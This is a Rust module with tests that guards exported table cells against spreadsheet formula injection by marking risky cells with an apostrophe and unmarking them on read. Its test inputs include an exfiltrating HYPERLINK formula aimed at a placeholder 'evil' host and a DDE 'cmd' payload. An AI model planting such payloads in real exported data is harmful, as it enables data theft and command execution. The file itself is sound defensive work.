//! How text is written into a cell of a table so that it stays text.
//!
//! A spreadsheet takes a cell that begins with `=`, `+`, `-` or `@` for a formula and runs it, wherever the text came from. [`marked`] puts an
//! apostrophe before it, which spreadsheets take for "this is text", and [`unmarked`] takes it off again.

use std::borrow::Cow;

/// What marks a cell as text.
const MARK: char = '\'';

/// Whether a spreadsheet may take this for something else than text: by its first letter, or by the first one behind what it may overlook.
fn acts(text: &str) -> bool {
    if text.starts_with(['\t', '\r', '\n']) {
        return true;
    }
    let overlooked = |letter: char| {
        letter.is_whitespace()
            || letter.is_control()
            || matches!(letter, '\u{feff}' | '\u{200b}'..='\u{200f}' | '\u{2060}' | '"')
    };
    // Also as full-width and small forms, which some spreadsheets fold.
    text.trim_start_matches(overlooked).starts_with([
        '=', '+', '-', '@', '\u{ff1d}', '\u{ff0b}', '\u{ff0d}', '\u{ff20}', '\u{fe66}', '\u{fe62}', '\u{fe63}',
        '\u{fe6b}', '\u{2212}',
    ])
}

/// What ends a cell where a spreadsheet does not split at commas: quotes mean nothing to it then, since they are not at a cell's beginning.
const ENDS: [char; 4] = [';', '\t', '\n', '\r'];

/// Where cells of a text begin for a spreadsheet that does not split at commas, last first.
fn begins(text: &str) -> impl Iterator<Item = usize> {
    text.rmatch_indices(ENDS).map(|(place, end)| place + end.len()).chain([0])
}

/// Text as it is written into a cell: marked at its beginning, and where a cell would begin if it were split at something else than commas.
pub fn marked(text: &str) -> Cow<'_, str> {
    let mut written = Cow::Borrowed(text);
    // From the end, so that the other beginnings stay where they are. A text that looks like a marked one is marked once more: there is one way back.
    for begin in begins(text).filter(|begin| acts(text[*begin..].trim_start_matches(MARK))) {
        written.to_mut().insert(begin, MARK);
    }
    written
}

/// The text of a cell that [`marked`] has written, or any other cell as it is.
pub fn unmarked(cell: &str) -> Cow<'_, str> {
    let mut text = Cow::Borrowed(cell);
    for begin in begins(cell) {
        if text[begin..].strip_prefix(MARK).is_some_and(|rest| acts(rest.trim_start_matches(MARK))) {
            text.to_mut().remove(begin);
        }
    }
    text
}

#[cfg(test)]
mod tests {
    use super::*;

    /// sec-07-formulas-in-exported-tables
    #[test]
    fn formulas_are_written_as_text_and_read_back_as_they_were() {
        for text in [
            "=HYPERLINK(\"http://evil?x=\"&A1)",
            "@SUM(1+1)*cmd|'/C calc'!A0",
            "+1+1",
            "-2+3",
            " =1",
            "\u{a0}=1",
            "\u{feff}=1",
            "\u{ff1d}1+1",
            "\u{ff0b}1",
            "\u{ff0d}1",
            "\u{ff20}SUM(1)",
            "\u{2212}5",
            "\"=1",
            "'=1",
            "''=1",
            "' =1",
        ] {
            let written = marked(text);
            assert_eq!(written, format!("'{text}"), "{text:?}");
            assert_eq!(unmarked(&written), text, "{text:?}");
        }
        // Where a spreadsheet splits at semicolons, tabs or line ends, and quotes in the middle of a cell mean nothing.
        for (text, written) in [
            ("\t=1", "'\t'=1"),
            ("\r=1", "'\r'=1"),
            ("a;=1", "a;'=1"),
            ("a; =1;b", "a;' =1;b"),
            ("=1;=2", "'=1;'=2"),
            ("a;'=1", "a;''=1"),
            ("a\t@x", "a\t'@x"),
            ("a\n+1", "a\n'+1"),
            (";;-1", ";;'-1"),
            (";\"=1", ";'\"=1"),
        ] {
            assert_eq!(marked(text), written, "{text:?}");
            assert_eq!(unmarked(written), text, "{text:?}");
        }
        for text in [
            "",
            "e-1",
            "a=b",
            "a;b",
            "a;b=c",
            "a\tb",
            "ü;ä",
            "'",
            "''",
            "'tis",
            "O'Neill",
            "5",
            "4930123",
            "2026-01-01T00:00:00Z",
            " a",
        ] {
            assert_eq!(marked(text), text);
            assert_eq!(unmarked(text), text);
        }
    }

    proptest::proptest! {
        /// sec-07: whatever a text is, it comes back, and no part of what is written acts.
        #[test]
        fn any_text_comes_back(text in "[=+@'; \t\n\"a-]{0,12}") {
            let written = marked(&text).into_owned();
            proptest::prop_assert_eq!(unmarked(&written), text.as_str());
            for part in written.split(ENDS) {
                proptest::prop_assert!(!acts(part), "{:?} in {:?}", part, written);
            }
        }
    }
}
